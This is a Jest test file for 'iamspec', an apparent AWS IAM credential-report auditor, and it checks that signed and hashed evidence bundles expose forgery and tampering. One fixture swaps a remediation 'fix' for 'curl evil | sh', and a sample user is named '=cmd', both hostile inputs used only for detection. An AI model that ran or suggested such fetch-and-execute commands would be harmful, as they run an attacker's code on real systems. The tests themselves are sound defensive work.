import { createHash, generateKeyPairSync } from 'node:crypto';
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeProfile } from '../../tools/testing/project';
import {
  ACCOUNT,
  AS_OF,
  accessKey,
  ago,
  bytes,
  csv,
  password,
  rootRow,
  userRow,
} from '../../tools/testing/report';
import { readVerdicts, VERDICTS, writeVerdicts } from '../../tools/testing/verdicts';
import { publishLast, publishLatest, writeBundle } from '../bundle/bundle';
import { BundleFiles } from '../bundle/bundle-files';
import { audit, dated, uncheckable } from '../judge';
import type { Facts, Snapshot } from '../report';
import { sumUp } from '../result';
import { auditWithoutJest, makePlan, newRun, POLICY_DIR } from '../run';
import { takeSettings } from '../run/settings';
import { type Auditor, readAuditor } from './auditor';
import { type Verification, verificationExitCode } from './core/verification';
import { verifyBundle } from './verify-here';

const DAY = 86_400_000;
const { privateKey, publicKey } = generateKeyPairSync('ed25519');
const OWN = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'iamspec-spec-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const REPORT = csv([
  rootRow({ mfa_active: 'true' }),
  userRow('alice', { ...password(ago(80 * DAY), ago(DAY)), ...accessKey(1, ago(91 * DAY)) }),
  userRow('bob', { mfa_active: 'true', ...accessKey(2, ago(89 * DAY), { used: ago(DAY) }) }),
  userRow('=cmd'),
]);

async function audited(env: Readonly<Record<string, string>> = {}) {
  const path = join(root, 'report.csv');
  writeFileSync(path, REPORT);
  const asOf = new Date(AS_OF).toISOString();
  const given = { IAMSPEC_REPORT: path, IAMSPEC_AS_OF: asOf, ...env };
  return auditWithoutJest(takeSettings(given), () => {});
}

async function bundle(key?: string, env: Readonly<Record<string, string>> = {}): Promise<string> {
  return writeBundle(join(root, 'reports'), await audited(env), key);
}

const AUDITOR = readAuditor(takeSettings({}), { keys: [] }, Date.now());

function verify(directory: string, asked: Partial<Auditor> = {}): Verification {
  return verifyBundle(new BundleFiles(directory), { ...AUDITOR, now: Date.now(), ...asked });
}

const TRUSTED = { keys: [{ name: 'public.pem', key: publicKey }] };

/** All that is held against a bundle. */
const found = ({ problems, reservations }: Verification): readonly string[] => [
  ...problems,
  ...reservations.map(({ text }) => text),
];

/** A bundle of a live run that asked AWS for these facts. */
function liveBundle(profile: string, facts: Facts): string {
  const settings = takeSettings({ IAMSPEC_PROFILE: profile });
  const plan = makePlan(settings);
  const identity = newRun(plan.settings);
  const readAt = Math.ceil(identity.startedAt / 1000) * 1000;
  const snapshot: Snapshot = {
    content: bytes(
      csv([rootRow(), userRow('alice', { ...password(ago(DAY)), mfa_active: 'true' })]),
    ),
    generatedTime: readAt,
    origin: { kind: 'live', endpoint: undefined },
    caller: { accountId: ACCOUNT, arn: `arn:aws:iam::${ACCOUNT}:user/auditor` },
    facts,
    notes: [],
  };
  const run = { identity, now: Date.now };
  return writeBundle(join(root, 'reports'), audit(plan, dated(snapshot, readAt, undefined), run));
}

function edit(directory: string, name: string, change: (text: string) => string): void {
  const path = join(directory, name);
  const before = name === VERDICTS ? readVerdicts(directory) : readFileSync(path, 'utf8');
  expect(change(before)).not.toBe(before);
  if (name === VERDICTS) writeVerdicts(directory, change(before));
  else writeFileSync(path, change(before));
}

/** Makes the manifest say what the file is now: what somebody would do who covers a trace. */
function cover(directory: string, name: string): void {
  const content = readFileSync(join(directory, name));
  const sha256 = createHash('sha256').update(content).digest('hex');
  const manifest = JSON.parse(readFileSync(join(directory, 'manifest.json'), 'utf8'));
  manifest.files[name] = { sha256, bytes: content.length };
  writeFileSync(join(directory, 'manifest.json'), JSON.stringify(manifest));
}

describe('a live bundle', () => {
  const profile = writeProfile('kinds', { a: { 'user-mfa-phishing-resistant': {} } });
  const auditorOf = (given: string) =>
    readAuditor(takeSettings({ IAMSPEC_PROFILE: given }), { keys: [] }, Date.now());
  const none = { known: [] };

  test('in which one user is not reviewed, since AWS did not tell enough, is verified', () => {
    const directory = liveBundle(profile, { virtualMfaDevices: none, mfaDevices: none });
    expect(readVerdicts(directory)).toContain('"notReviewed"');
    const verification = verify(directory, auditorOf(profile));
    expect(verification.problems).toEqual([]);
  });

  test('that lacks a fact which its controls need is not as recorded', () => {
    const directory = liveBundle(profile, { virtualMfaDevices: none });
    expect(verify(directory, auditorOf(profile)).problems).toEqual([
      expect.stringMatching(
        /user-mfa-phishing-resistant › all subjects: it is not reviewed, though/,
      ),
    ]);
  });
});

describe('a bundle', () => {
  test('lies below the account and the run, with what cannot be derived or is read at once', async () => {
    const directory = await bundle();
    expect(directory).toMatch(new RegExp(`reports/${ACCOUNT}/\\d{4}-\\d\\d-\\d\\dT[^/]+$`));
    expect(readdirSync(directory).sort()).toEqual([
      ...['facts.json', 'index.html', 'junit.xml', 'manifest.json', 'report.csv', 'summary.md'],
      'verdicts.ndjson.gz',
    ]);
    expect(readFileSync(join(directory, 'report.csv'), 'utf8')).toBe(REPORT);
  });

  test('is for its owner alone', async () => {
    const directory = await bundle();
    expect(statSync(directory).mode & 0o777).toBe(0o700);
    for (const name of readdirSync(directory)) {
      expect(statSync(join(directory, name)).mode & 0o777).toBe(0o600);
    }
  });

  test('says what it is evidence of', async () => {
    const manifest = JSON.parse(readFileSync(join(await bundle(), 'manifest.json'), 'utf8'));
    expect(manifest).toMatchObject({
      schemaVersion: 1,
      tool: { name: 'iamspec' },
      account: { id: ACCOUNT, partition: 'aws', caller: null },
      report: {
        source: 'saved report',
        asOf: '2025-06-30T12:00:00.000Z',
        asOfSource: 'IAMSPEC_AS_OF',
      },
      exitCode: 1,
      settings: { IAMSPEC_PROFILE: 'baseline', IAMSPEC_FAIL_ON: 'low' },
      profiles: [{ name: 'baseline' }],
    });
    expect(manifest.controls).toContainEqual(
      expect.objectContaining({ id: 'access-key-rotation', inputs: { maxAgeDays: 90 } }),
    );
  });

  test('leaves nothing behind where it cannot be written whole', async () => {
    const result = await audited();
    const crash = new Proxy(result, {
      get: (target, name) => {
        if (name === 'waivers') throw new Error('no space left');
        return Reflect.get(target, name);
      },
    });
    expect(() => writeBundle(join(root, 'reports'), crash)).toThrow('no space left');
    expect(readdirSync(join(root, 'reports', ACCOUNT))).toEqual([]);
  });

  test('latest points at it, and its JUnit stays where CI looks', async () => {
    const directory = await bundle();
    const reports = join(root, 'reports');
    for (const publish of [publishLatest, publishLatest, publishLast, publishLast]) {
      publish(reports, directory);
    }
    expect(join(reports, readlinkSync(join(reports, 'latest')))).toBe(directory);
    expect(join(reports, readlinkSync(join(reports, 'last-run')))).toBe(directory);
    expect(readFileSync(join(reports, 'junit.xml'))).toEqual(
      readFileSync(join(directory, 'junit.xml')),
    );
    expect(readdirSync(reports).sort()).toEqual([ACCOUNT, 'junit.xml', 'last-run', 'latest']);
  });

  test('of a run that could read no report says why, and passes nothing', () => {
    const run = {
      id: '2025-06-30T12-00-00Z-000000',
      startedAt: AS_OF,
      version: '0',
      commit: undefined,
      settings: {},
    };
    const results = uncheckable([{ profile: 'baseline', id: 'root-mfa' }], 'no credentials', 0);
    const settings = { failOn: 'low' } as const;
    const policy = { profiles: [], waivers: [], owners: [], policyFiles: [], settings };
    const outcome = { audited: undefined, results, problems: ['no credentials'] };
    const directory = writeBundle(root, sumUp(policy, run, outcome));
    expect(directory).toContain(join('no-account', run.id));
    expect(existsSync(join(directory, 'report.csv'))).toBe(false);
    expect(readFileSync(join(directory, 'junit.xml'), 'utf8')).toContain('<error>');
    const verification = verify(directory);
    expect(found(verification)).toEqual(['That run could not check: no credentials']);
    expect(verificationExitCode(verification, [])).toBe(2);
    expect(verification.notes).toContain(
      'The run could read no report: nothing to evaluate again.',
    );
  });
});

describe('verify', () => {
  test('passes what nobody touched', async () => {
    const directory = await bundle();
    const verification = verify(directory);
    const { notes } = verification;
    const others = readdirSync(directory).filter((name) => name !== 'manifest.json');
    expect(found(verification)).toEqual([]);
    expect(notes[0]).toMatch(new RegExp(`^${others.length} files have the SHA-256`));
    expect(notes.join(' ')).toMatch(
      /verdicts were evaluated again from the raw report: all are the same/,
    );
  });

  test('passes a bundle of every control, and one that was made from a bundle', async () => {
    const first = await bundle(undefined, { IAMSPEC_PROFILE: 'all' });
    expect(found(verify(first))).toEqual([]);
    const again = writeBundle(
      join(root, 'again'),
      await auditWithoutJest(
        takeSettings({ IAMSPEC_REPORT: first, IAMSPEC_PROFILE: 'all' }),
        () => {},
      ),
    );
    expect(found(verify(again))).toEqual([]);
    const withoutRun = (directory: string) =>
      readVerdicts(directory).replaceAll(/"run":"[^"]*"/g, '"run":""');
    expect(withoutRun(again)).toBe(withoutRun(first));
  });

  test.each([
    ['report.csv', (text: string) => text.replace('true', 'TRUE')],
    [VERDICTS, (text: string) => text.replace('"failed"', '"passed"')],
    ['junit.xml', (text: string) => text.replace('<failure>', '<skipped>')],
    ['index.html', (text: string) => `${text} `],
  ])('names %s where one byte of it was changed', async (name, change) => {
    const directory = await bundle();
    edit(directory, name, change);
    expect(verify(directory).problems.join('\n')).toMatch(
      new RegExp(`${name} was changed: its SHA-256 is`),
    );
  });

  test('names the subject where a status was changed and the manifest covered up', async () => {
    const directory = await bundle();
    edit(directory, VERDICTS, (text) =>
      text.replace(/("subject":"alice \/ access key 1"[^\n]*"status":)"failed"/, '$1"passed"'),
    );
    cover(directory, VERDICTS);
    expect(verify(directory).problems).toEqual([
      'baseline › access-key-last-used › alice / access key 1: status is "passed" in the bundle, but "failed" when evaluated again.',
    ]);
  });

  test('finds the verdicts wrong where the report was changed and the manifest covered up', async () => {
    const directory = await bundle();
    edit(directory, 'report.csv', (text) => text.replace(ago(91 * DAY), ago(10 * DAY)));
    cover(directory, 'report.csv');
    expect(verify(directory).problems.join('\n')).toMatch(
      /access-key-rotation › alice .* status is "failed" in the bundle, but "passed"/,
    );
  });

  test('misses a verdict that was deleted', async () => {
    const directory = await bundle();
    edit(directory, VERDICTS, (text) => text.split('\n').slice(1).join('\n'));
    cover(directory, VERDICTS);
    expect(verify(directory).problems.join('\n')).toMatch(
      /access-key-last-used: 1 verdicts are missing, such as alice/,
    );
  });

  test.each<[string, (directory: string) => void, RegExp]>([
    [
      'a file that is missing',
      (directory) => rmSync(join(directory, 'summary.md')),
      /summary\.md is missing/,
    ],
    [
      'a file that nobody named',
      (directory) => writeFileSync(join(directory, 'more.txt'), ''),
      /more\.txt is not named by the manifest/,
    ],
    [
      'a raw report that is missing',
      (directory) => rmSync(join(directory, 'report.csv')),
      /report\.csv is missing/,
    ],
  ])('names %s', async (_, damage, expected) => {
    const directory = await bundle();
    damage(directory);
    expect(verify(directory).problems.join('\n')).toMatch(expected);
  });

  test.each([
    ['no manifest', (path: string) => rmSync(path), /is no evidence bundle/],
    ['a manifest that is no JSON', (path: string) => writeFileSync(path, '{'), /is no JSON/],
    [
      'a manifest of another version',
      (path: string) => writeFileSync(path, '{"schemaVersion": 2}'),
      /Was it made by another version/,
    ],
  ])('cannot check %s', async (_, damage, expected) => {
    const directory = await bundle();
    damage(join(directory, 'manifest.json'));
    expect(() => verify(directory)).toThrow(expected);
  });
});

/** Changes manifest and verdicts as somebody would who makes all hashes right again. */
function forge(
  directory: string,
  change: (manifest: Forged, verdicts: Record<string, unknown>[]) => void,
): string {
  const path = (name: string) => join(directory, name);
  const manifest: Forged = JSON.parse(readFileSync(path('manifest.json'), 'utf8'));
  const lines = readVerdicts(directory).trim().split('\n');
  const verdicts = lines.map((line): Record<string, unknown> => JSON.parse(line));
  change(manifest, verdicts);
  const kept = verdicts.filter(({ deleted }) => !deleted);
  const text = kept.map((verdict) => `${JSON.stringify(verdict)}\n`).join('');
  writeVerdicts(directory, text);
  for (const name of Object.keys(manifest.files)) {
    if (!existsSync(path(name))) continue;
    const content = readFileSync(path(name));
    const sha256 = createHash('sha256').update(content).digest('hex');
    manifest.files[name] = { sha256, bytes: content.length };
  }
  writeFileSync(path('manifest.json'), JSON.stringify(manifest));
  return directory;
}

interface Forged {
  tool: { version: string };
  run: { id: string; startedAt: string };
  failOn: string;
  policyFiles: { path: string; sha256: string }[];
  exitCode: number;
  counts: Record<string, number>;
  account: { id: string } | null;
  report: object | null;
  problems: string[];
  profiles: { name: string; title: string }[];
  controls: { id: string; profile: string | null; notRun: number; inputs: object }[];
  waivers: object[];
  files: Record<string, { sha256: string; bytes: number }>;
}

describe('an unsigned bundle with all hashes made right again', () => {
  const pass = (verdict: Record<string, unknown>) => {
    if (verdict.status === 'failed') verdict.status = 'passed';
  };

  test.each<[string, Parameters<typeof forge>[1], RegExp]>([
    [
      'an outcome that its verdicts do not give',
      (manifest) => {
        manifest.exitCode = 0;
        manifest.counts.failed = 0;
      },
      /manifest\.json: exitCode is 0, but the verdicts give 1/,
    ],
    [
      'no report, but passes',
      (manifest, verdicts) => {
        Object.assign(manifest, { report: null, account: null, exitCode: 0 });
        verdicts.forEach(pass);
      },
      /it is passed, though no report could be read/,
    ],
    [
      'verdicts made results of plain files',
      (_, verdicts) => {
        for (const verdict of verdicts) Object.assign(verdict, { profile: null, status: 'passed' });
      },
      /verdicts are missing/,
    ],
    [
      'a control left out',
      (manifest, verdicts) => {
        const [first] = manifest.controls.splice(0, 1);
        for (const verdict of verdicts) verdict.deleted = verdict.control === first?.id;
      },
      /Profile baseline selects control access-key-last-used here; the run had none/,
    ],
    [
      'a limit loosened, and its verdicts with it',
      (manifest, verdicts) => {
        const control = manifest.controls.find(({ id }) => id === 'access-key-rotation');
        Object.assign(control ?? {}, { inputs: { maxAgeDays: 9999 } });
        verdicts.filter(({ control: id }) => id === 'access-key-rotation').forEach(pass);
      },
      /its inputs were \{"maxAgeDays":9999\} in the run, and are \{"maxAgeDays":90\} here/,
    ],
    [
      'the name of another standard',
      (manifest, verdicts) => {
        Object.assign(manifest.profiles[0] ?? {}, { name: 'cis-aws-5.0' });
        for (const each of [...manifest.controls, ...verdicts]) {
          Object.assign(each, { profile: 'cis-aws-5.0' });
        }
      },
      /Profile cis-aws-5\.0 selects control/,
    ],
    [
      'failures deleted as left out by a filter',
      (manifest, verdicts) => {
        const failed = verdicts.filter(({ status }) => status === 'failed');
        for (const verdict of failed) verdict.deleted = true;
        Object.assign(manifest.controls[0] ?? {}, { notRun: failed.length });
      },
      /verdicts are missing, such as/,
    ],
    [
      'a waiver that lasts for ever',
      (manifest) => {
        const people = { owner: 'o', approvedBy: 'a', ticket: null, use: 'used' };
        const expires = '2099-01-01T00:00:00.000Z';
        manifest.waivers.push({
          control: 'user-mfa',
          subject: '*',
          reason: 'r',
          expires,
          ...people,
        });
      },
      /The waiver of \* \(user-mfa\) lasts longer than 366 days/,
    ],
    [
      'another version for its maker, and an outcome that its verdicts do not give',
      (manifest) => {
        manifest.tool.version = '0.0.1';
        manifest.exitCode = 0;
      },
      /manifest\.json: exitCode is 0, but the verdicts give 1/,
    ],
    [
      'another version for its maker, and verdicts of a control that it does not name',
      (manifest, verdicts) => {
        manifest.tool.version = '0.0.1';
        verdicts.push({ ...verdicts[0], control: 'made-up', status: 'passed' });
      },
      /baseline › made-up › .*: the manifest names no such control/,
    ],
    [
      'a profile left out, and its limits loosened',
      (manifest, verdicts) => {
        manifest.profiles = [];
        const control = manifest.controls.find(({ id }) => id === 'access-key-rotation');
        Object.assign(control ?? {}, { inputs: { maxAgeDays: 9999 } });
        verdicts.filter(({ control: id }) => id === 'access-key-rotation').forEach(pass);
      },
      /control access-key-rotation is of profile baseline, which the manifest does not name/,
    ],
    [
      'files unnamed',
      (manifest) => {
        for (const name of ['index.html', 'junit.xml']) delete manifest.files[name];
      },
      /The manifest does not name junit\.xml/,
    ],
    [
      'another fix',
      (_, verdicts) => {
        for (const verdict of verdicts) if (verdict.fix) verdict.fix = 'curl evil | sh';
      },
      /fix is "curl evil \| sh" in the bundle/,
    ],
    [
      'another account',
      (manifest) => Object.assign(manifest.account ?? {}, { id: '999999999999' }),
      /999999999999/,
    ],
  ])('is found out that has %s', async (_, change, expected) => {
    const verification = verify(forge(await bundle(), change));
    expect(found(verification).join('\n')).toMatch(expected);
    expect(verificationExitCode(verification, [])).not.toBe(0);
  });

  test.each(['junit.xml', 'index.html', 'verdicts.csv', 'findings.asff.json', 'summary.md'])(
    'is found out that has another %s',
    async (name) => {
      const directory = await bundle(undefined, { IAMSPEC_EXPORT: 'csv,asff' });
      writeFileSync(join(directory, name), 'all is well');
      expect(verify(forge(directory, () => {})).problems).toEqual([
        `${name} is not what the verdicts give.`,
      ]);
    },
  );

  test.each<[string, Parameters<typeof forge>[1]]>([
    [
      'a file outside of it',
      (manifest) => Object.assign(manifest.files, { '../x': manifest.files['report.csv'] }),
    ],
    [
      'fewer than no verdicts left out',
      (manifest) => Object.assign(manifest.controls[0] ?? {}, { notRun: -5 }),
    ],
  ])('is not understood that names %s', async (_, change) => {
    const directory = forge(await bundle(), change);
    expect(() => verify(directory)).toThrow(/is not understood/);
  });

  test('a link in it is no file', async () => {
    const directory = await bundle();
    rmSync(join(directory, 'summary.md'));
    symlinkSync(join(directory, 'junit.xml'), join(directory, 'summary.md'));
    expect(verify(directory).problems).toContain(
      `${join(directory, 'summary.md')} is no regular file.`,
    );
  });
});

describe('a bundle of other code', () => {
  const older = (change: Parameters<typeof forge>[1] = () => {}) =>
    bundle().then((directory) =>
      forge(directory, (manifest, verdicts) => {
        manifest.tool.version = '0.0.1';
        change(manifest, verdicts);
      }),
    );

  test('is told apart from a changed one, and says what was not compared', async () => {
    const verification = verify(await older());
    expect(verification.problems).toEqual([]);
    expect(verification.reservations).toEqual([
      { kind: 'other code', text: expect.stringMatching(/Made by other code, iamspec 0\.0\.1/) },
    ]);
    expect(verificationExitCode(verification, [])).toBe(2);
    expect(verificationExitCode(verification, ['other code'])).toBe(0);
  });

  test('is accepted by no flag where a verdict is another one here', async () => {
    const directory = await older((_, verdicts) => {
      for (const each of verdicts) if (each.status === 'failed') each.status = 'notApplicable';
    });
    const verification = verify(directory);
    expect(verification.reservations.map(({ kind }) => kind)).toContain('other verdicts');
    expect(verificationExitCode(verification, ['other code', 'other policy', 'partial'])).not.toBe(
      0,
    );
  });

  test('is one with another file of a control, whatever version it claims', async () => {
    const directory = forge(await bundle(), (manifest) => {
      const file = manifest.policyFiles.find(({ path }) => path === 'controls/root-mfa.test.ts');
      Object.assign(file ?? {}, { sha256: '0'.repeat(64) });
    });
    expect(found(verify(directory)).join()).toMatch(
      /It does not have this controls\/root-mfa\.test\.ts/,
    );
  });
});

describe('the policy of a bundle', () => {
  const HOUSE = join(POLICY_DIR, 'docs', 'examples', 'house.ts');

  test('names every file by path and content', async () => {
    const manifest = JSON.parse(readFileSync(join(await bundle(), 'manifest.json'), 'utf8'));
    const sha256 = createHash('sha256')
      .update(readFileSync(join(POLICY_DIR, 'profiles', 'baseline.ts')))
      .digest('hex');
    expect(manifest.policyFiles).toContainEqual({
      kind: 'profile',
      path: 'profiles/baseline.ts',
      sha256,
    });
    const paths = manifest.policyFiles.map(({ path }: { readonly path: string }) => path);
    expect(paths).toEqual(
      expect.arrayContaining(['profiles/waivers.yaml', 'controls/root-mfa.test.ts']),
    );
  });

  test('is none of the auditor’s where the profile is unknown here, until a copy is named', async () => {
    const directory = await bundle(undefined, { IAMSPEC_PROFILE: HOUSE });
    const verification = verify(directory);
    expect(found(verification)).toEqual([
      expect.stringMatching(/Profile house is none that you hold/),
    ]);
    expect(verificationExitCode(verification, [])).toBe(2);
    expect(verificationExitCode(verification, ['other policy'])).toBe(0);
    const auditor = readAuditor(takeSettings({ IAMSPEC_PROFILE: HOUSE }), { keys: [] }, Date.now());
    expect(found(verifyBundle(new BundleFiles(directory), auditor))).toEqual([]);
  });

  test('is not the one that the auditor names', async () => {
    const auditor = readAuditor(
      takeSettings({ IAMSPEC_PROFILE: 'strict' }),
      { keys: [] },
      Date.now(),
    );
    const verification = verifyBundle(new BundleFiles(await bundle()), auditor);
    expect(found(verification)).toEqual([
      'The run was not judged under profile strict, which you name.',
    ]);
  });

  test('differs by waivers and threshold, which are named with who approved them', async () => {
    const waivers = join(root, 'waivers.yaml');
    const expires = new Date(Date.now() + 30 * DAY).toISOString().slice(0, 10);
    const people = 'reason: mine, owner: eve, approvedBy: mallory';
    writeFileSync(
      waivers,
      `- {control: access-key-rotation, subject: '*', ${people}, expires: ${expires}}\n`,
    );
    const env = { IAMSPEC_WAIVERS: waivers, IAMSPEC_FAIL_ON: 'critical' };
    const directory = await bundle(undefined, env);
    const verification = verify(directory);
    expect(verification.problems).toEqual([]);
    expect(found(verification)).toEqual([
      expect.stringMatching(/Failures counted from critical on in the run; for you .* low/),
      expect.stringMatching(
        /waiver of \* \(access-key-rotation\).*approved by mallory, owner eve.*none of yours/,
      ),
    ]);
    expect(verificationExitCode(verification, [])).toBe(2);
    const own = readAuditor(takeSettings(env), { keys: [] }, Date.now());
    expect(found(verifyBundle(new BundleFiles(directory), own))).toEqual([]);
  });
});

test('names each of the subjects that others have waived, in lines that are not cut', async () => {
  const directory = await bundle();
  forge(directory, (manifest) => {
    const people = { reason: 'mine', owner: 'eve', approvedBy: 'mallory', ticket: null };
    const expires = new Date(Date.now() + 30 * DAY).toISOString();
    const subjects = Array.from({ length: 200 }, (_, at) => `nobody-${at} / access key 1`);
    manifest.waivers.push({ control: 'access-key-rotation', subjects, expires, ...people });
  });
  const lines = found(verify(directory)).filter((line) => line.includes('is none of yours'));
  expect(lines.length).toBeLessThan(10);
  expect(Math.max(...lines.map(({ length }) => length))).toBeLessThan(1500);
  expect(lines.join().match(/nobody-\d+ /g)).toHaveLength(200);
});

describe('a bundle that is audited again', () => {
  const waived = (directory: string) =>
    forge(directory, (manifest) => {
      const people = { reason: 'r', owner: 'o', approvedBy: 'a', ticket: null, use: 'used' };
      const expires = new Date(Date.now() + 30 * DAY).toISOString();
      manifest.failOn = 'critical';
      for (const { id: control } of manifest.controls) {
        manifest.waivers.push({ control, subject: '*', expires, ...people });
      }
    });

  test('is excused by none of its own waivers, and its threshold does not count', async () => {
    const directory = waived(await bundle());
    const result = await auditWithoutJest(takeSettings({ IAMSPEC_REPORT: directory }), () => {});
    expect(result.exitCode).toBe(1);
    expect(result.failOn).toBe('low');
    const statuses = result.results.flatMap(({ verdicts }) => verdicts.map(({ status }) => status));
    expect(statuses).toContain('failed');
    expect(statuses).not.toContain('waived');
    expect(result.audited?.snapshot.notes.join(' ')).toMatch(
      /judged with waivers of its own \(\d+\), which do not count here.*counting from critical on/,
    );
  });

  test('is judged under a profile that comes with iamspec, and under no other that it names', async () => {
    const profile = join(POLICY_DIR, 'docs', 'examples', 'house.ts');
    const directory = await bundle(undefined, { IAMSPEC_PROFILE: profile });
    await expect(
      auditWithoutJest(takeSettings({ IAMSPEC_REPORT: directory }), () => {}),
    ).rejects.toThrow(
      /judged under a profile that is neither iamspec's nor yours: "house".*--profile/,
    );
  });
});

describe('a signed bundle', () => {
  test('passes with its key, among others of a rotation', async () => {
    const { publicKey: other } = generateKeyPairSync('ed25519');
    const keys = [{ name: 'older.pem', key: other }, ...TRUSTED.keys];
    const verification = verify(await bundle(OWN), { keys });
    expect(found(verification)).toEqual([]);
    expect(verification.authenticated).toBe(true);
    expect(verification.notes).toContain('The manifest is signed by the key public.pem.');
  });

  test('is not read any further where its signature is not good', async () => {
    const directory = await bundle(OWN);
    edit(directory, 'manifest.json', (text) => text.replace('"exitCode": 1', '"exitCode": 0'));
    const { problems, manifest } = verify(directory, TRUSTED);
    expect({ problems, manifest }).toEqual({
      problems: [
        'the signature is not that of this manifest and this key. Nothing else of it was read.',
      ],
      manifest: undefined,
    });
  });

  test('an unsigned one fails where a signature is asked for, and says so where none is', async () => {
    const directory = await bundle();
    expect(verify(directory, TRUSTED).problems.join()).toMatch(/it is not signed/);
    expect(verify(directory).notes.join()).toMatch(/Not signed: whoever could change/);
  });
});

test('a run that judged nothing stands as one that could not check, and says why', async () => {
  const profile = join(root, 'nothing.ts');
  const declared =
    "{ name: 'nothing', title: 'Nothing', requirements: { a: { 'report-complete': {} } } }";
  writeFileSync(profile, `export default ${declared};`);
  const directory = await bundle(undefined, { IAMSPEC_PROFILE: profile });
  const verification = verify(directory);
  expect(verification.problems).toEqual([]);
  expect(found(verification)).toContain(
    'That run could not check: it judged nothing, and some of it was not reviewed.',
  );
});

test('a file that was changed is told once, and no verdict is counted of what was not read', async () => {
  const directory = await bundle();
  edit(directory, VERDICTS, (text) => text.replace('"failed"', '"passed"'));
  const { problems, counts } = verify(directory);
  expect(problems).toEqual([expect.stringMatching(/^verdicts\.ndjson\.gz was changed/)]);
  expect(counts).toBeUndefined();
});

describe('what the auditor asks for', () => {
  test('is the account: another one stands, but proves nothing', async () => {
    const directory = await bundle();
    expect(found(verify(directory, { account: ACCOUNT }))).toEqual([]);
    const verification = verify(directory, { account: '999999999999' });
    expect(found(verification)).toEqual([
      `It is of account ${ACCOUNT}, not of 999999999999 (--account).`,
    ]);
    expect(verificationExitCode(verification, ['other code', 'other policy', 'partial'])).toBe(2);
  });

  test('is an age: exactly the limit stands, a millisecond more does not', async () => {
    const directory = await bundle();
    // A run is not before its report.
    const now = Date.now();
    expect(found(verify(directory, { now, maxAge: now - AS_OF }))).toEqual([]);
    expect(found(verify(directory, { now, maxAge: now - AS_OF - 1 })).join()).toMatch(
      /Its report is of 2025-06-30T12:00:00Z, .* ago; the limit is/,
    );
  });
});
